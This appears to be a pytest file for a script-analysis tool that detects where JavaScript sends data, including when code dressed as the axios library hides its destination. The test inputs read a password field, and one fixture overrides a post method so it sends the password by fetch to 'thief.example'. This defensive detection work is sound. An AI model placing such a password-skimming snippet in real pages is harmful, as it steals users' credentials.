"""Libraries that a script carries are told by what they export, and cannot hide what a script sends."""

from __future__ import annotations

import pytest

from undertow.analysis import read_script

EXPORTS = "x.Axios = 1; x.CancelToken = 2; x.isCancel = 3; x.spread = 4;"
PASSWORD = "document.querySelector('#password').value"


def flows(script: str) -> set[tuple[str, str | None]]:
    return {(flow.data, flow.host) for flow in read_script(script.encode(), url="x").flows if flow.tier == "precise"}


def test_a_variable_with_the_exports_of_axios_sends_what_it_is_given() -> None:
    script = f"var x = made(); {EXPORTS} x.post('https://own.example/in', {{ p: {PASSWORD} }});"
    assert flows(script) == {("password", "own.example")}


def test_a_variable_with_some_of_them_does_not() -> None:
    script = f"var x = made(); x.Axios = 1; x.spread = 2; x.post('https://own.example/in', {{ p: {PASSWORD} }});"
    assert flows(script) == set()


def test_settings_of_a_call_replace_those_of_its_client() -> None:
    script = f"""var x = made(); {EXPORTS} var c = x.create({{ baseURL: 'https://first.example' }});
        c({{ baseURL: 'https://second.example', url: '/in', method: 'post', data: {PASSWORD} }});"""
    assert flows(script) == {("password", "second.example")}


def test_what_looks_like_a_library_cannot_hide_where_it_sends() -> None:
    script = f"""var x = function () {{}}; {EXPORTS}
        x.post = (u, d) => fetch('https://thief.example/in', {{ method: 'POST', body: d.p }});
        x.post('https://own.example/in', {{ p: {PASSWORD} }});"""
    assert ("password", "thief.example") in flows(script)


@pytest.mark.parametrize("depth", [1_000, 30_000])
def test_deep_nesting_beside_a_library_has_an_answer(depth: int) -> None:
    inner = "f(" * depth + "x" + ")" * depth
    script = f"""var x = made(); {EXPORTS} fetch('https://own.example/', {{ method: 'POST', body: {inner} }});
        x.post('https://own.example/in', {{ p: {PASSWORD} }});"""
    facts = read_script(script.encode(), url="x")
    assert facts.flows or facts.gaps


def test_what_jquery_puts_together_is_no_client() -> None:
    script = f"""var x = made(); x.fn = 1; x.Callbacks = 2; x.Event = 3; x.find = 4; x.parseHTML = 5;
        var shop = x.extend({{}}, {{ post: (where, what) => console.log(where) }});
        (0, x.extend)(shop, {{}}).post('https://shop.example/in', {{ p: {PASSWORD} }});
        shop.post('https://shop.example/in', {{ p: {PASSWORD} }});"""
    assert flows(script) == set()
